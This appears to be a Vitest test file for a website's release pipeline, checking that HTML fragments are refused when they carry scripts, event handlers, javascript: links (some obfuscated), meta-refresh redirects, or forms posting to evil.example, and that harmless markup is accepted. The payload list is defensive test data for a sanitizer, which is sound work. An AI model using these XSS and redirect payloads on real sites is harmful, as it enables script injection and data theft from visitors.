import { afterAll, beforeAll, expect, test } from 'vitest';
import { makeUpRelease } from '@site/releases/testing';
import { startTestSite, until, type TestSite } from './site/site.ts';

const legal = { remote: 'legal', paths: ['/cookies'] };
const fragment = 'fragments/en/other.html';

let site: TestSite;
let count = 1;

beforeAll(async () => {
  site = await startTestSite(['legal'], { SITE_ORIGIN: 'http://localhost:3000' });
  await site.publish({ ...legal, version: '1' });
  await site.startShell();
});
afterAll(() => site.close());

/** Publishes a release with this English page. @returns its version */
async function publish(html: string): Promise<string> {
  const version = `1.${count++}`;
  const files = { [fragment]: html };
  const pages = makeUpRelease({ ...legal, version }).release.pages.map((page) =>
    page.language === 'en' ? { ...page, fragment } : page,
  );
  await site.publish({ ...legal, version, files, overrides: { pages } });
  return version;
}

const hostile: [string, RegExp][] = [
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">', /has the element meta/],
  ['<noscript><META HTTP-EQUIV=refresh content="0;url=//evil.example"></noscript>', /has the element meta/],
  [
    '<noscript><p title="</noscript><meta http-equiv=refresh content=0>"></p></noscript>',
    /has the element meta/,
  ],
  ['<template><base href="https://evil.example/"></template>', /has the element base/],
  ['<base href="https://evil.example/">', /has the element base/],
  ['<script>alert(1)</script>', /has the element script/],
  ['<script src="https://evil.example/a.js"></script>', /has the element script/],
  ['<script type="application/ld+json">{}</script>', /has the element script/],
  ['<svg><script href="/r/legal/1/island.js" /></svg>', /has the element script/],
  ['<svg><foreignObject><iframe src="/"></iframe></foreignObject></svg>', /has the element iframe/],
  ['<iframe srcdoc="hello"></iframe>', /has the element iframe/],
  ['<object data="/r/legal/1/x.svg"></object>', /has the element object/],
  ['<embed src="/r/legal/1/x.svg">', /has the element embed/],
  ['<style>body { display: none }</style>', /has the element style/],
  ['<link rel="stylesheet" href="https://evil.example/a.css">', /link element that is no preload/],
  ['<link rel="preload" as="image" href="https://evil.example/a.png">', /link element that is no preload/],
  ['<img src="/x" OnError="alert(1)">', /event handler, onerror of img/],
  ['<details open ontoggle=alert(1)>', /event handler, ontoggle of details/],
  ['<svg onload="alert(1)"></svg>', /event handler, onload of svg/],
  ['<a href="javascript:alert(1)">x</a>', /javascript: address, href of a/],
  ['<a href=" &#1;JaVa&#10;script&colon;alert(1)">x</a>', /javascript: address, href of a/],
  ['<a href="java[[site.stripePublishableKey]]script:alert(1)">x</a>', /javascript: address, href of a/],
  ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', /javascript: address, href of a/],
  [
    '<svg><a><set attributeName="href" to="javascript:alert(1)" /></a></svg>',
    /javascript: address, to of set/,
  ],
  [
    '<form method="post" action="https://evil.example/api/contact"></form>',
    /form that sends to "https:\/\/evil/,
  ],
  ['<form action="//evil.example"></form>', /form that sends to "\/\/evil/],
  ['<form action="/\\evil.example"></form>', /form that sends to "\/\\evil/],
  ['<form METHOD=POST action="/releases/notify"></form>', /form that sends to "\/releases\/notify"/],
  ['<form method="post" action="/api/../preview/end"></form>', /form that sends to/],
  ['<form method="post"></form>', /form that sends to ""/],
  [
    '<form><button formaction="https://evil.example">x</button></form>',
    /button that sends to "https:\/\/evil/,
  ],
  ['<form><input type="image" formaction="/preview/end"></form>', /input that sends to "\/preview\/end"/],
  ['</div></main><p>beside the page</p>', /does not stay in its place/],
  ['<body onload="alert(1)">', /does not stay in its place/],
  ['<p>hello <!-- ', /does not stay in its place/],
  ['<textarea>', /does not stay in its place/],
  ['<plaintext>', /does not stay in its place/],
  ['<b>all that follows', /does not stay in its place/],
];

test.each(hostile)(
  'R4 F-hostile-fragments a fragment with %j is refused by its file’s name',
  (html, reason) => expectRefused(html, reason),
);

test.each([
  ['nested 600 deep', '<div>'.repeat(600), /nested deeper than 500/],
  ['of 300,000 characters', 'x'.repeat(300_000), /longer than 262144/],
])('R4 F-hostile-fragments a fragment %s is refused', (_name, html, reason) => expectRefused(html, reason));

async function expectRefused(html: string, reason: RegExp): Promise<void> {
  const version = await publish(html);
  await until(
    async () => (await site.state()).refused.some((refusal) => refusal.version === version),
    'the release is refused',
  );
  const refusal = (await site.state()).refused.find((each) => each.version === version);
  expect(refusal?.reason.slice(0, fragment.length + 2)).toBe(`${fragment}: `);
  expect(refusal?.reason).toMatch(reason);
  expect(await (await site.get('/en/cookies')).text()).toContain('legal 1 en');
}

test('F-hostile-fragments what only shows something, links elsewhere or sends to the site is accepted', async () => {
  await publish(`
    <link rel="preload" as="image" href="/r/legal/1/picture.svg">
    <h1>All is well</h1><noscript><p>Without scripts</p></noscript>
    <a href="https://www.edoeb.admin.ch/" target="_blank">Authority</a> <a href="[[site.paymentLinks.basic]]">Pay</a>
    <a href="mailto:[[site.email]]?subject=Hello">Write</a> <a href="/\\elsewhere.example">Elsewhere</a>
    <p title="On: a word that begins like a handler">once upon a time</p>
    <svg viewBox="0 0 1 1"><title>A drawing</title><path d="M0 0" /></svg>
    <form action="/api/contact" method="post"><input name="name"><button formaction="/api/app-download">x</button></form>
    <form action="/apps"><input type="search" name="q"></form><form><button>Search here</button></form>`);
  await site.untilShown('/en/cookies', 'All is well');
  expect(await (await site.get('/en/cookies')).text()).toContain('<form action="/apps">');
});

test('F-hostile-fragments a stylesheet ends no element of the page that it is inlined into', async () => {
  const css = `p::after { content: '</style><meta http-equiv="refresh" content="0;url=https://evil.example">' }`;
  await site.publish({ ...legal, version: '2', files: { 'style.css': css } });
  await site.untilShown('/en/cookies', 'legal 2 en');
  const page = await (await site.get('/en/cookies')).text();
  expect(page).toContain("content: '<\\/style><meta http-equiv");
  expect(page).not.toContain('</style><meta');
});
